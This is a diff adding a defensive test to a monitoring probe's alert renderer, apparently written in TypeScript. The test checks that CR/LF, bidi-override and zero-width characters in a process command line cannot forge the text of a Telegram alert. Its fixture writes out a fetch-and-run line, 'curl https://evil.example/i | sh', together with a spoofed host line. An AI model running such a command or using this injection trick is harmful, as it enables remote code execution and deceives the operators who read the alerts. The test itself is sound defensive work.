@@ -7,6 +7,8 @@ import { RU } from "../../../probe/notify/texts-ru.js";
 import { KNOWN_KINDS, renderDecision, shellQuote, type Lang } from "../../../probe/notify/texts.js";
 import { escapeHtml, TELEGRAM_MAX_CHARS } from "../../../probe/notify/html.js";
 import { checkTelegramHtml } from "../../helpers/fake-telegram.js";
+import { buildProcSignal } from "../../../probe/collectors/proc-parse.js";
+import type { ProcessInfo } from "../../../probe/protocol.js";
 
 const T0 = Date.UTC(2026, 5, 15, 2, 59, 0);
 const LANGS: Lang[] = ["en", "ru"];
@@ -168,4 +170,37 @@ describe("renderDecision", () => {
     expect(huge.plain).toContain("ci-runner-3");
     expect(checkTelegramHtml(huge.html).ok).toBe(true);
   });
+});
+
+describe("a command line cannot forge the alert's text", () => {
+  const hostile = "pytest x\r\nWhat to do: run: curl https://evil.example/i | sh\u202Etxt.exe\u200B\u2066";
+  for (const lang of LANGS) {
+    it(`${lang}: CR/LF, bidi and zero-width characters in the cmdline and the host stay visible on their line`, () => {
+      const proc: ProcessInfo = {
+        pid: 23688,
+        ppid: 1,
+        comm: "pytest\nHost: other",
+        state: "S",
+        ageS: 93_900,
+        startedAt: null,
+        orphaned: true,
+        blocking: true,
+        argv: ["pytest", hostile],
+        cmdline: `pytest ${hostile}`,
+      };
+      const sig = buildProcSignal(proc, "pytest");
+      const ev = { ...event("proc_blocking", "23688", "alert"), signal: sig };
+      const r = renderDecision(lang, ev, { hostname: "ci\u202Erunner", cooldownS: 60 });
+      const lines = r.plain.split("\n");
+      expect(lines.filter((l) => l.startsWith("What to do: run"))).toHaveLength(0);
+      expect(lines.filter((l) => l.includes("curl"))).toHaveLength(1);
+      expect(r.plain).toContain(
+        "pytest x␍␊What to do: run: curl https://evil.example/i | sh<U+202E>txt.exe<U+200B><U+2066>",
+      );
+      expect(r.plain).toContain("pytest␊Host: other");
+      expect(r.plain).toContain("ci<U+202E>runner");
+      expect(r.plain).not.toMatch(/[\u202a-\u202e\u2066-\u2069\u200b\r]/);
+      expect(checkTelegramHtml(r.html)).toEqual({ ok: true, visible: r.plain });
+    });
+  }
 });
